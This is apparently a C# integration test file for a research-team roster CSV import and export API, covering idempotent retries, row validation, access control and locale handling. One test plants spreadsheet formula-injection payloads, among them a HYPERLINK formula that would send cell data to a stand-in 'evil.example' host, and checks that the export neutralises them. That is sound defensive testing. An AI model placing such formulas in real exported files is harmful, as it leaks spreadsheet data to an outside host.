using System.Net;
using System.Text;
using System.Text.Json;
using AlfaPlatform.Server.Tests.Collaborations;
using AlfaPlatform.Server.Tests.Fixtures;

namespace AlfaPlatform.Server.Tests.Teams;

[Collection(PlatformCollection.Name)]
public sealed class RosterImportTests(PlatformFixture platform)
{
    private async Task<HttpResponseMessage> ImportAsync(Guid team, string file, HttpClient? client = null) =>
        await (client ?? platform.Client).PostAsync($"/api/teams/{team}/members/import", new StringContent(
            await File.ReadAllTextAsync(Path.Combine(AppContext.BaseDirectory, "Teams", "Rosters", file)), Encoding.UTF8, "text/csv"));

    [Fact]
    public async Task a_keyed_import_cut_off_half_way_is_completed_by_its_retry_and_adds_each_member_once()
    {
        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
        var team = await platform.Client.CreateTeamAsync(organisation.Id);
        var run = Guid.NewGuid().ToString("N")[..8];
        var people = new[] { ("Ada", "Lead"), ("Ben", "Biologist"), ("Cyd", "Clinician") };
        foreach (var (given, _) in people)
        {
            (await platform.Client.SendJsonAsync(HttpMethod.Post, "/api/people", new { givenName = given, familyName = "Known", email = $"{given}.{run}@example.org" }))
                .EnsureSuccessStatusCode();
        }

        var csv = "email,given_name,family_name,role,role_label,joined_on\r\n"
            + string.Concat(people.Select(p => $"{p.Item1}.{run}@example.org,{p.Item1},Known,{p.Item2},,2024-01-01\r\n"));
        var key = Guid.NewGuid().ToString();
        HttpRequestMessage Import()
        {
            var request = new HttpRequestMessage(HttpMethod.Post, $"/api/teams/{team}/members/import") { Content = new StringContent(csv, Encoding.UTF8, "text/csv") };
            request.Headers.Add("Idempotency-Key", key);
            return request;
        }

        // The first attempt adds Ada, then stops before Ben is added (as a crash would).
        HttpResponseMessage cut;
        await using (var connection = new Npgsql.NpgsqlConnection(platform.ConnectionString))
        {
            await connection.OpenAsync();
            await using (var stop = new Npgsql.NpgsqlCommand($"""
                create function alfa.cut_import() returns trigger language plpgsql as $$
                begin if new.stream_id = '{team}' and new.version >= 3 then raise exception 'cut off by the test'; end if; return new; end $$;
                create trigger cut_import before insert on alfa.mt_events for each row execute function alfa.cut_import();
                """, connection))
            {
                await stop.ExecuteNonQueryAsync();
            }

            try
            {
                cut = await platform.Client.SendAsync(Import());
            }
            finally
            {
                await using var resume = new Npgsql.NpgsqlCommand("drop trigger cut_import on alfa.mt_events; drop function alfa.cut_import();", connection);
                await resume.ExecuteNonQueryAsync();
            }
        }

        var retry = await platform.Client.SendAsync(Import());

        Assert.False(cut.IsSuccessStatusCode);
        Assert.Equal(HttpStatusCode.OK, retry.StatusCode);
        var roster = await (await platform.Client.GetAsync($"/api/teams/{team}/members")).ReadAsync<JsonElement>();
        Assert.Equal(["Ada Known", "Ben Known", "Cyd Known"], roster.GetProperty("members").EnumerateArray().Select(m => m.GetProperty("name").GetString()).Order());
        await using var session = platform.Store.QuerySession();
        Assert.Equal(4, (await session.Events.FetchStreamAsync(team)).Count); // created, then each member added once
    }

    [Fact]
    public async Task a_file_with_one_bad_row_is_refused_naming_its_line_and_the_corrected_file_is_applied_once()
    {
        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
        var team = await platform.Client.CreateTeamAsync(organisation.Id);
        var before = await platform.CountEventsAsync();

        var refused = await ImportAsync(team, "roster-with-a-bad-row.csv");

        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        var errors = (await refused.ProblemAsync()).GetProperty("errors");
        Assert.Equal(["line 4"], errors.EnumerateObject().Select(e => e.Name));
        Assert.Contains("Astronaut", errors.GetProperty("line 4")[0].GetString(), StringComparison.Ordinal);
        Assert.Equal(before, await platform.CountEventsAsync());

        var accepted = await ImportAsync(team, "roster.csv");
        var first = await accepted.ReadAsync<JsonElement>();
        Assert.Equal((4, 4, 0), (first.GetProperty("peopleRegistered").GetInt32(), first.GetProperty("membersAdded").GetInt32(), first.GetProperty("unchanged").GetInt32()));
        var afterFirst = await platform.CountEventsAsync();

        var again = await (await ImportAsync(team, "roster.csv")).ReadAsync<JsonElement>();
        Assert.Equal((0, 0, 4), (again.GetProperty("peopleRegistered").GetInt32(), again.GetProperty("membersAdded").GetInt32(), again.GetProperty("unchanged").GetInt32()));
        Assert.Equal(afterFirst, await platform.CountEventsAsync());

        var roster = await (await platform.Client.GetAsync($"/api/teams/{team}/members")).ReadAsync<JsonElement>();
        var members = roster.GetProperty("members").EnumerateArray()
            .Select(m => $"{m.GetProperty("name").GetString()}|{m.GetProperty("role").GetString()}|{m.GetProperty("roleLabel").GetString()}|{m.GetProperty("joinedOn").GetString()}")
            .ToList();
        Assert.Equal(
            ["Inès Martin|Lead||2023-09-01", "Yves Le Goff, Jr|Bioinformatician||2024-01-15", "Zoé Petit|DataManager||2024-02-01", "Marc Durand|Other|Biobank curator|2024-03-10"],
            members);
    }

    [Fact]
    public async Task rows_that_break_the_teams_rules_are_refused_by_line_before_anything_is_written()
    {
        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
        var team = await platform.Client.CreateTeamAsync(organisation.Id);
        var before = await platform.CountEventsAsync();

        var refused = await ImportAsync(team, "roster-breaking-team-rules.csv");

        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        var errors = (await refused.ProblemAsync()).GetProperty("errors");
        Assert.Equal(["line 4"], errors.EnumerateObject().Select(e => e.Name)); // the display-form email, found first
        Assert.Equal(before, await platform.CountEventsAsync());

        // With the email fixed, the member dated before the lead is the one refused, still with nothing written.
        var fixedEmail = (await File.ReadAllTextAsync(Path.Combine(AppContext.BaseDirectory, "Teams", "Rosters", "roster-breaking-team-rules.csv")))
            .Replace("\"Display Form <display.form@example.org>\"", "display.form@example.org", StringComparison.Ordinal);
        var stillRefused = await platform.Client.PostAsync($"/api/teams/{team}/members/import", new StringContent(fixedEmail, Encoding.UTF8, "text/csv"));
        Assert.Equal(HttpStatusCode.BadRequest, stillRefused.StatusCode);
        Assert.Equal(["line 3"], (await stillRefused.ProblemAsync()).GetProperty("errors").EnumerateObject().Select(e => e.Name));
        Assert.Equal(before, await platform.CountEventsAsync());
    }

    [Fact]
    public async Task the_roster_exports_as_csv_that_imports_back_unchanged()
    {
        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
        var team = await platform.Client.CreateTeamAsync(organisation.Id);
        var lead = await platform.Client.RegisterPersonAsync("Exa", "Porter");
        await platform.Client.AddMemberAsync(team, lead, "Lead", "2024-01-01");

        var export = await platform.Client.GetAsync($"/api/teams/{team}/members.csv");
        var csv = await export.Content.ReadAsStringAsync();
        var reimported = await platform.Client.PostAsync($"/api/teams/{team}/members/import", new StringContent(
            string.Join("\r\n", csv.Split("\r\n").Select(line => line.Length == 0 ? line : line[..line.LastIndexOf(',')])), Encoding.UTF8, "text/csv"));

        Assert.Equal("text/csv", export.Content.Headers.ContentType?.MediaType);
        Assert.StartsWith("email,given_name,family_name,role,role_label,joined_on,left_on\r\n", csv, StringComparison.Ordinal);
        Assert.Contains(",Exa,Porter,Lead,,2024-01-01,", csv, StringComparison.Ordinal);
        Assert.Equal(1, (await reimported.ReadAsync<JsonElement>()).GetProperty("unchanged").GetInt32());
    }

    [Fact]
    public async Task only_staff_import_and_export_rosters_and_only_as_csv()
    {
        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
        var team = await platform.Client.CreateTeamAsync(organisation.Id);
        using var member = await platform.SignInAsAsync(["member"]);

        Assert.Equal(HttpStatusCode.Forbidden, (await ImportAsync(team, "roster.csv", member)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await member.GetAsync($"/api/teams/{team}/members.csv")).StatusCode);
        Assert.Equal(HttpStatusCode.UnsupportedMediaType, (await platform.Client.SendJsonAsync(HttpMethod.Post, $"/api/teams/{team}/members/import", new { })).StatusCode);
    }

    [Fact]
    public async Task the_roster_export_neutralises_spreadsheet_formulas_and_starts_with_a_byte_order_mark()
    {
        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
        var team = await platform.Client.CreateTeamAsync(organisation.Id);
        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        var lead = await RegisterAsync(formula, "+Porter");
        await platform.Client.AddMemberAsync(team, lead, "Lead", "2024-01-01").ExpectAsync(HttpStatusCode.OK);
        var member = await platform.Client.RegisterPersonAsync("Tab", "Member");
        await platform.Client.SendJsonAsync(HttpMethod.Post, $"/api/teams/{team}/members", new { personId = member, role = "Other", roleLabel = "@SUM(1)", on = "2024-02-01" })
            .ExpectAsync(HttpStatusCode.OK);

        var bytes = await (await platform.Client.GetAsync($"/api/teams/{team}/members.csv")).Content.ReadAsByteArrayAsync();
        var csv = Encoding.UTF8.GetString(bytes);

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes.Take(3));
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\",'+Porter,Lead,", csv, StringComparison.Ordinal);
        Assert.Contains(",Other,'@SUM(1),2024-02-01,", csv, StringComparison.Ordinal);
        var cells = csv.TrimStart('\uFEFF').Split("\r\n").SelectMany(line => line.Split(',')).Select(cell => cell.TrimStart('"'));
        Assert.DoesNotContain(cells, cell => cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
    }

    [Fact]
    public async Task an_exported_roster_with_formulas_and_former_members_imports_back_unchanged_and_changes_nothing()
    {
        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
        var team = await platform.Client.CreateTeamAsync(organisation.Id);
        var lead = await RegisterAsync("=1+1", "-Lead");
        await platform.Client.AddMemberAsync(team, lead, "Lead", "2024-01-01").ExpectAsync(HttpStatusCode.OK);
        var former = await platform.Client.RegisterPersonAsync("Fern", "Former");
        await platform.Client.AddMemberAsync(team, former, "Biologist", "2024-02-01").ExpectAsync(HttpStatusCode.OK);
        await platform.Client.SendJsonAsync(HttpMethod.Post, $"/api/teams/{team}/members/{former}/leave", new { on = "2024-06-30" }).ExpectAsync(HttpStatusCode.OK);
        var rosterBefore = (await platform.Client.GetAsync($"/api/teams/{team}/members").OkJsonAsync()).GetRawText();
        var exported = await (await platform.Client.GetAsync($"/api/teams/{team}/members.csv")).Content.ReadAsByteArrayAsync();
        var before = await platform.CountEventsAsync();

        var content = new ByteArrayContent(exported);
        content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("text/csv");
        var reimported = await platform.Client.PostAsync($"/api/teams/{team}/members/import", content).OkJsonAsync();

        Assert.Equal((0, 0, 0, 2), (reimported.GetProperty("peopleRegistered").GetInt32(), reimported.GetProperty("membersAdded").GetInt32(),
            reimported.GetProperty("departuresRecorded").GetInt32(), reimported.GetProperty("unchanged").GetInt32()));
        Assert.Equal(before, await platform.CountEventsAsync());
        Assert.Equal(rosterBefore, (await platform.Client.GetAsync($"/api/teams/{team}/members").OkJsonAsync()).GetRawText());
        var names = (await platform.Client.GetAsync($"/api/people/{lead}").OkJsonAsync());
        Assert.Equal(("=1+1", "-Lead"), (names.GetProperty("givenName").GetString(), names.GetProperty("familyName").GetString()));
    }

    [Fact]
    public async Task left_on_in_an_imported_roster_records_the_departure_once()
    {
        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
        var team = await platform.Client.CreateTeamAsync(organisation.Id);
        var file = $"""
            email,given_name,family_name,role,role_label,joined_on,left_on
            lea.{team:N}@example.org,Léa,Lead,Lead,,2023-01-01,
            paul.{team:N}@example.org,Paul,Past,PostDoc,,2023-03-01,2024-03-31
            paul.{team:N}@example.org,Paul,Past,Engineer,,2024-06-01,
            """;

        var first = await ImportTextAsync(team, file).OkJsonAsync();
        var again = await ImportTextAsync(team, file).OkJsonAsync();

        Assert.Equal((2, 3, 1, 0), (first.GetProperty("peopleRegistered").GetInt32(), first.GetProperty("membersAdded").GetInt32(),
            first.GetProperty("departuresRecorded").GetInt32(), first.GetProperty("unchanged").GetInt32()));
        Assert.Equal((0, 0, 0, 3), (again.GetProperty("peopleRegistered").GetInt32(), again.GetProperty("membersAdded").GetInt32(),
            again.GetProperty("departuresRecorded").GetInt32(), again.GetProperty("unchanged").GetInt32()));
        var members = (await platform.Client.GetAsync($"/api/teams/{team}/members").OkJsonAsync()).GetProperty("members").EnumerateArray()
            .Select(m => $"{m.GetProperty("name").GetString()}|{m.GetProperty("role").GetString()}|{m.GetProperty("joinedOn").GetString()}|{m.GetProperty("leftOn").GetString()}")
            .Order()
            .ToList();
        Assert.Equal(["Léa Lead|Lead|2023-01-01|", "Paul Past|Engineer|2024-06-01|", "Paul Past|PostDoc|2023-03-01|2024-03-31"], members);
    }

    [Fact]
    public async Task a_semicolon_separated_roster_saved_by_a_french_spreadsheet_is_imported()
    {
        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
        var team = await platform.Client.CreateTeamAsync(organisation.Id);
        // What a French-locale spreadsheet writes: ';' between fields, day-first dates, Windows-1252 text (declared:
        // undeclared, the upload is read as UTF-8), no BOM, and formatted empty rows as bare separators.
        var file = $""""
            email;given_name;family_name;role;role_label;joined_on
            helene.{team:N}@example.org;Hélène;Le Cœur, Jr;Lead;;01/09/2023
            remi.{team:N}@example.org;Rémi;"Durand; dit ""Rémi""";Other;Curateur, biobanque;15/01/2024
            ;;;;;
            """";
        var content = new ByteArrayContent(CodePagesEncodingProvider.Instance.GetEncoding(1252)!.GetBytes(file));
        content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("text/csv") { CharSet = "windows-1252" };

        var imported = await platform.Client.PostAsync($"/api/teams/{team}/members/import", content).OkJsonAsync();

        Assert.Equal(2, imported.GetProperty("membersAdded").GetInt32());
        var members = (await platform.Client.GetAsync($"/api/teams/{team}/members").OkJsonAsync()).GetProperty("members").EnumerateArray()
            .Select(m => $"{m.GetProperty("name").GetString()}|{m.GetProperty("role").GetString()}|{m.GetProperty("roleLabel").GetString()}|{m.GetProperty("joinedOn").GetString()}")
            .ToList();
        Assert.Equal(["Hélène Le Cœur, Jr|Lead||2023-09-01", "Rémi Durand; dit \"Rémi\"|Other|Curateur, biobanque|2024-01-15"], members);
    }

    private Task<HttpResponseMessage> ImportTextAsync(Guid team, string csv) =>
        platform.Client.PostAsync($"/api/teams/{team}/members/import", new StringContent(csv, Encoding.UTF8, "text/csv"));

    private async Task<Guid> RegisterAsync(string given, string family)
    {
        var response = await platform.Client.SendJsonAsync(HttpMethod.Post, "/api/people", new
        {
            givenName = given, familyName = family, email = $"formula.{Guid.NewGuid():N}@example.org",
        }).ExpectAsync(HttpStatusCode.Created);
        return (await response.ReadAsync<JsonElement>()).GetProperty("id").GetGuid();
    }
}
